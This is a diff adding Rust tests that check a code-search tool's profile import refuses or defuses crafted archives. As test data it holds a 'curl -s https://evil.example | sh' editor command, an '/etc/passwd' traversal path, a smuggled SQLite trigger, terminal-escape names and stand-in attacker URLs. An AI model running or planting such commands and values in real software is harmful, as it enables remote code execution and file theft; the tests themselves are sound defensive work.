@@ -17,6 +17,7 @@ use ferret_tests::git_server::{make_bare_repo, push_commit, GitServer};
 use ferret_tests::github_server::{
     free_port_refused_url, FixtureRepo, GitHubFixture, GitHubServer,
 };
+use sha2::{Digest, Sha256};
 
 /// A token shaped like a real classic PAT, unique per test.
 fn token_for(user_id: u64) -> String {
@@ -751,6 +752,16 @@ fn a_profile_exported_deleted_and_imported_searches_the_same_with_nothing_re_emb
     assert!(imported.needs_sign_in, "the token was not restored");
     assert_eq!(imported.clones_to_restore, ["acme/alpha"]);
     assert!(imported.missing_local_repos.is_empty());
+    // The local folder is there, but an archive may name any folder: it waits for the
+    // user's confirmation before it is read again.
+    let to_confirm: Vec<(&str, &Path)> = imported
+        .local_repos_to_confirm
+        .iter()
+        .map(|r| (r.name.as_str(), r.root.as_path()))
+        .collect();
+    let local_root = std::fs::canonicalize(&local).unwrap();
+    assert_eq!(to_confirm, [("notes", local_root.as_path())]);
+    assert!(imported.settings_reset_for_safety.is_empty());
     let err = w
         .profiles
         .import(&archive, None, false)
@@ -760,6 +771,7 @@ fn a_profile_exported_deleted_and_imported_searches_the_same_with_nothing_re_emb
 
     let engine = w.profiles.engine(&id).unwrap();
     assert_eq!(engine.stats().unwrap().embedded_chunks, embedded);
+    engine.confirm_repo("notes").unwrap();
     let after: Vec<Vec<String>> = queries.iter().map(|q| hybrid(&engine, q)).collect();
     assert_eq!(after, before, "the same results after the round trip");
     let run = engine
@@ -861,5 +873,414 @@ fn sync_uses_the_stored_url_not_the_clones_origin() {
         0,
         "the rewritten origin was contacted"
     );
+    w.assert_token_nowhere();
+}
+
+/// Rewrites an export the way anyone with `tar` and `sqlite3` could: `edit` changes the
+/// unpacked files in a directory (`meta.sqlite`, `config.json`, `manifest.json`), then the
+/// manifest's sizes and checksums are recomputed, so every check of the archive's own
+/// framing passes and only what the files say can give them away.
+fn craft_archive(from: &Path, to: &Path, edit: impl FnOnce(&Path)) {
+    let dir = tempfile::tempdir().unwrap();
+    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(
+        std::fs::File::open(from).unwrap(),
+    ));
+    for entry in archive.entries().unwrap() {
+        let mut entry = entry.unwrap();
+        let name = entry.path().unwrap().to_string_lossy().into_owned();
+        let base = name.strip_prefix("ferret-profile/").unwrap().to_string();
+        entry.unpack(dir.path().join(base)).unwrap();
+    }
+    edit(dir.path());
+    let manifest_file = dir.path().join("manifest.json");
+    let mut manifest: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&manifest_file).unwrap()).unwrap();
+    let mut files = Vec::new();
+    for name in ["meta.sqlite", "config.json"] {
+        if let Ok(bytes) = std::fs::read(dir.path().join(name)) {
+            files.push(serde_json::json!({
+                "name": name,
+                "bytes": bytes.len(),
+                "sha256": format!("{:x}", Sha256::digest(&bytes)),
+            }));
+        }
+    }
+    manifest["files"] = serde_json::Value::Array(files);
+    std::fs::write(
+        &manifest_file,
+        serde_json::to_vec_pretty(&manifest).unwrap(),
+    )
+    .unwrap();
+    let out = flate2::write::GzEncoder::new(
+        std::fs::File::create(to).unwrap(),
+        flate2::Compression::fast(),
+    );
+    let mut builder = tar::Builder::new(out);
+    for name in ["manifest.json", "meta.sqlite", "config.json"] {
+        let Ok(bytes) = std::fs::read(dir.path().join(name)) else {
+            continue;
+        };
+        let mut header = tar::Header::new_gnu();
+        header.set_size(bytes.len() as u64);
+        header.set_mode(0o600);
+        header.set_cksum();
+        builder
+            .append_data(&mut header, format!("ferret-profile/{name}"), &bytes[..])
+            .unwrap();
+    }
+    builder.into_inner().unwrap().finish().unwrap();
+}
+
+/// A change to an unpacked export (see [`craft_archive`]).
+type ArchiveEdit<'a> = Box<dyn Fn(&Path) + 'a>;
+
+/// Runs `sql` on the database of an unpacked export (see [`craft_archive`]).
+fn edit_db(dir: &Path, sql: &str) {
+    rusqlite::Connection::open(dir.join("meta.sqlite"))
+        .unwrap()
+        .execute_batch(sql)
+        .unwrap();
+}
+
+/// What a profile holds, as a user would check it: its repositories and a search.
+fn holdings(profiles: &Profiles, id: &str) -> (Vec<(String, PathBuf)>, Vec<String>) {
+    let engine = profiles.engine(id).unwrap();
+    let repos = engine
+        .repos()
+        .unwrap()
+        .into_iter()
+        .map(|r| (r.name, r.root))
+        .collect();
+    (repos, lexical(&engine, "evict_least_recently_used"))
+}
+
+/// Crafted archives (issue 25): rows that point outside the profile, a smuggled trigger,
+/// a truncated database, names with terminal escapes and an unusable API URL are refused
+/// with a clear error, and an existing profile they would replace is left as it was;
+/// settings that run programs, load libraries, open files without asking or index
+/// credentials are reset and named; local folders (even `/`) wait for confirmation; a
+/// stored clone URL is dropped and the clone's folder is the profile's own.
+#[test]
+fn crafted_archives_are_refused_or_defused_and_nothing_is_lost() {
+    let tmp = tempfile::tempdir().unwrap();
+    let home = tmp.path().join("home");
+    // The default layout: six `..` from a clone's folder lead to the home directory.
+    let data = home.join(".local/share/ferret");
+    std::fs::create_dir_all(&home).unwrap();
+    std::fs::write(home.join("keep.txt"), "mine").unwrap();
+    let notes = home.join("code/notes");
+    std::fs::create_dir_all(&notes).unwrap();
+    std::fs::write(
+        notes.join("cache.py"),
+        "def evict_least_recently_used(cache):\n    cache.popitem(last=False)\n",
+    )
+    .unwrap();
+    let profiles = open_profiles(&data);
+    for id in ["source", "keeper"] {
+        profiles.create_local(id).unwrap();
+        let engine = profiles.engine(id).unwrap();
+        engine.add_repo(&notes, Some("notes")).unwrap();
+        index_lexical(&engine, None);
+    }
+    let mut config = profiles.config("source").unwrap();
+    config.excludes = vec!["*.log".into()];
+    profiles.set_config("source", &config).unwrap();
+    let archive = tmp.path().join("source.tar.gz");
+    profiles.export("source", &archive).unwrap();
+    let keeper = holdings(&profiles, "keeper");
+    assert_eq!(keeper.1, ["notes:cache.py"]);
+
+    let crafted = tmp.path().join("crafted.tar.gz");
+    let refused: [(&str, ArchiveEdit, &str); 7] = [
+        (
+            "a remote that climbs to the home directory",
+            Box::new(|d| {
+                edit_db(
+                    d,
+                    "UPDATE repos SET remote = '../../../../../..', kind = 'github'",
+                )
+            }),
+            "which is not OWNER/NAME",
+        ),
+        (
+            "an absolute remote",
+            Box::new(|d| {
+                edit_db(
+                    d,
+                    &format!(
+                        "UPDATE repos SET remote = '{}', kind = 'github'",
+                        tmp.path().join("elsewhere").display()
+                    ),
+                )
+            }),
+            "which is not OWNER/NAME",
+        ),
+        (
+            "an indexed path outside its repository",
+            Box::new(|d| edit_db(d, "UPDATE files SET path = '../../../../etc/passwd'")),
+            "outside the repository",
+        ),
+        (
+            "a smuggled trigger",
+            Box::new(|d| {
+                edit_db(
+                    d,
+                    "CREATE TRIGGER evil AFTER INSERT ON files BEGIN UPDATE repos SET root = '/'; END;",
+                )
+            }),
+            "trigger \"evil\"",
+        ),
+        (
+            "a truncated database",
+            Box::new(|d| {
+                let db = d.join("meta.sqlite");
+                let bytes = std::fs::read(&db).unwrap();
+                std::fs::write(&db, &bytes[..bytes.len() / 2]).unwrap();
+            }),
+            "its database is damaged",
+        ),
+        (
+            "a repository name with terminal escapes",
+            Box::new(|d| edit_db(d, "UPDATE repos SET name = 'notes' || char(27) || '[2J'")),
+            "which Ferret does not allow",
+        ),
+        (
+            "a GitHub profile whose API is plain HTTP elsewhere",
+            Box::new(|d| {
+                let file = d.join("manifest.json");
+                let mut m: serde_json::Value =
+                    serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
+                m["profile"]["kind"] = "github".into();
+                m["profile"]["github_login"] = "octo".into();
+                m["profile"]["github_user_id"] = 1.into();
+                m["profile"]["api_url"] = "http://evil.example/api/v3".into();
+                std::fs::write(&file, serde_json::to_vec(&m).unwrap()).unwrap();
+            }),
+            "unusable GitHub API URL",
+        ),
+    ];
+    for (what, edit, why) in refused {
+        craft_archive(&archive, &crafted, edit);
+        let err = profiles
+            .import(&crafted, Some("keeper"), true)
+            .err()
+            .unwrap_or_else(|| panic!("{what}: imported"));
+        let text = err.to_string();
+        assert!(
+            text.contains(why) && text.contains("nothing was changed"),
+            "{what}: {text}"
+        );
+        assert_eq!(
+            holdings(&profiles, "keeper"),
+            keeper,
+            "{what}: keeper changed"
+        );
+        assert_eq!(
+            std::fs::read_to_string(home.join("keep.txt")).unwrap(),
+            "mine"
+        );
+        let strays: Vec<_> = std::fs::read_dir(data.join("user_data"))
+            .unwrap()
+            .flatten()
+            .map(|e| e.file_name().to_string_lossy().into_owned())
+            .filter(|n| n.starts_with('.'))
+            .collect();
+        assert!(strays.is_empty(), "{what}: left {strays:?}");
+    }
+
+    // Defused: hostile settings are reset and named, folders wait, the clone URL goes.
+    craft_archive(&archive, &crafted, |d| {
+        std::fs::write(
+            d.join("config.json"),
+            serde_json::json!({
+                "editor": "custom",
+                "editor_command": "sh -c 'curl -s https://evil.example | sh' {path}",
+                "model_dir": tmp.path().join("evil-models"),
+                "link_open_repos": ["notes"],
+                "index_secret_files": true,
+                "max_file_bytes": u64::MAX,
+                "excludes": ["*.log"],
+            })
+            .to_string(),
+        )
+        .unwrap();
+        edit_db(
+            d,
+            &format!(
+                "INSERT INTO repos (name, root, kind, added_at) VALUES ('everything', '/', 'local', 0);
+                 INSERT INTO repos (name, root, kind, added_at, remote, clone_url, branch, head)
+                 VALUES ('acme/alpha', '{}', 'github', 0, 'acme/alpha', 'file:///etc', 'main',
+                         '{}');",
+                home.display(),
+                "a".repeat(40)
+            ),
+        );
+    });
+    let report = profiles.import(&crafted, Some("defused"), false).unwrap();
+    let mut reset = report.settings_reset_for_safety.clone();
+    reset.sort();
+    assert_eq!(
+        reset,
+        [
+            "editor",
+            "editor_command",
+            "index_secret_files",
+            "link_open_repos",
+            "model_dir"
+        ]
+    );
+    assert!(
+        report.settings_reset_as_invalid.len() == 1
+            && report.settings_reset_as_invalid[0].contains("max_file_bytes"),
+        "{:?}",
+        report.settings_reset_as_invalid
+    );
+    let config = profiles.config("defused").unwrap();
+    assert_eq!(
+        config,
+        ferret_engine::profiles::ProfileConfig {
+            excludes: vec!["*.log".into()],
+            ..Default::default()
+        }
+    );
+    let mut to_confirm: Vec<&str> = report
+        .local_repos_to_confirm
+        .iter()
+        .map(|r| r.name.as_str())
+        .collect();
+    to_confirm.sort();
+    assert_eq!(to_confirm, ["everything", "notes"]);
+    assert_eq!(report.clones_to_restore, ["acme/alpha"]);
+    let paths = profiles.paths_of("defused").unwrap();
+    let clone_url: Option<String> = rusqlite::Connection::open(paths.meta_db())
+        .unwrap()
+        .query_row(
+            "SELECT clone_url FROM repos WHERE remote = 'acme/alpha'",
+            [],
+            |r| r.get(0),
+        )
+        .unwrap();
+    assert_eq!(clone_url, None, "the archive's clone URL is never kept");
+    let engine = profiles.engine("defused").unwrap();
+    let repos = engine.repos().unwrap();
+    let alpha = repos.iter().find(|r| r.name == "acme/alpha").unwrap();
+    assert_eq!(alpha.root, paths.repos_dir().join("acme/alpha"));
+    let err = engine.confirm_repo("everything").unwrap_err().to_string();
+    assert!(err.contains("the filesystem root"), "{err}");
+    let err = engine
+        .index(Some("notes"), &AtomicBool::new(false), true, &|_| {})
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("ferret repo confirm notes"), "{err}");
+    engine.confirm_repo("notes").unwrap();
+    index_lexical(&engine, Some("notes"));
+    assert_eq!(
+        lexical(&engine, "evict_least_recently_used"),
+        ["notes:cache.py"]
+    );
+    engine.remove_repo("acme/alpha").unwrap();
+    assert_eq!(
+        std::fs::read_to_string(home.join("keep.txt")).unwrap(),
+        "mine"
+    );
+    assert_eq!(holdings(&profiles, "keeper"), keeper);
+}
+
+/// An imported clone is fetched only from the profile's own GitHub: a clone URL stored in
+/// the archive (another server, `file://`) is never used, whoever wrote it. An import that
+/// would replace a profile is refused while another process runs its background work, and
+/// when the archive's account is not the one whose token the keychain holds for it.
+#[test]
+fn an_imported_clone_is_fetched_only_from_the_profiles_github() {
+    let w = World::new(7304, &[("acme/alpha", ALPHA), ("acme/beta", ALPHA)]);
+    let id = w.login();
+    let engine = w.profiles.engine(&id).unwrap();
+    let cancel = AtomicBool::new(false);
+    for name in ["acme/alpha", "acme/beta"] {
+        engine
+            .add_github_repo(name, None, &cancel, &|_| {})
+            .unwrap();
+    }
+    index_lexical(&engine, None);
+    drop(engine);
+    let backup = w.data.parent().unwrap().join("backup");
+    std::fs::create_dir_all(&backup).unwrap();
+    let archive = backup.join("profile.tar.gz");
+    w.profiles.export(&id, &archive).unwrap();
+
+    let evil_root = w.data.parent().unwrap().join("evil");
+    make_bare_repo(&evil_root, "acme", "alpha", ALPHA);
+    let evil = GitServer::start(&evil_root, &w.token);
+    let crafted = backup.join("crafted.tar.gz");
+    craft_archive(&archive, &crafted, |d| {
+        edit_db(
+            d,
+            &format!(
+                "UPDATE repos SET clone_url = '{}' WHERE remote = 'acme/alpha';
+                 UPDATE repos SET clone_url = 'file://{}' WHERE remote = 'acme/beta';",
+                evil.url("acme/alpha"),
+                w.git_root.join("acme/beta.git").display()
+            ),
+        )
+    });
+
+    // Replacing the profile: refused while another process runs its background work.
+    let paths = w.profiles.paths_of(&id).unwrap();
+    let runner = std::fs::File::options()
+        .create(true)
+        .truncate(false)
+        .write(true)
+        .open(paths.runner_lock_file())
+        .unwrap();
+    runner.try_lock().unwrap();
+    let err = w
+        .profiles
+        .import(&crafted, None, true)
+        .unwrap_err()
+        .to_string();
+    assert!(
+        err.contains("in use by another Ferret process") && err.contains("nothing was changed"),
+        "{err}"
+    );
+    drop(runner);
+    // An archive naming another GitHub for this account: the token stays out of it.
+    let elsewhere = backup.join("elsewhere.tar.gz");
+    craft_archive(&archive, &elsewhere, |d| {
+        let file = d.join("manifest.json");
+        let mut m: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
+        m["profile"]["api_url"] = "https://evil.example/api/v3".into();
+        std::fs::write(&file, serde_json::to_vec(&m).unwrap()).unwrap();
+    });
+    let err = w
+        .profiles
+        .import(&elsewhere, None, true)
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("has a GitHub token in the keychain"), "{err}");
+    assert_eq!(
+        w.profiles.get(&id).unwrap().api_url.as_deref(),
+        Some(w.api.api_url().as_str())
+    );
+
+    // The same account: replaced, and the next sync clones from the profile's GitHub.
+    let report = w.profiles.import(&crafted, None, true).unwrap();
+    assert!(report.replaced && !report.needs_sign_in);
+    let engine = w.profiles.engine(&id).unwrap();
+    let run = engine
+        .sync_and_index(None, &cancel, &|_, _| {}, &|_| {})
+        .unwrap();
+    assert!(
+        run.synced.iter().all(|r| r.recloned && r.error.is_none()),
+        "{run:?}"
+    );
+    assert_eq!(evil.request_count(), 0, "the archive's URL was contacted");
+    for repo in engine.repos().unwrap() {
+        assert_eq!(
+            repo.root,
+            paths.repos_dir().join(repo.remote.as_deref().unwrap())
+        );
+        assert!(repo.root.join("src/ledger.rs").is_file());
+    }
     w.assert_token_nowhere();
 }
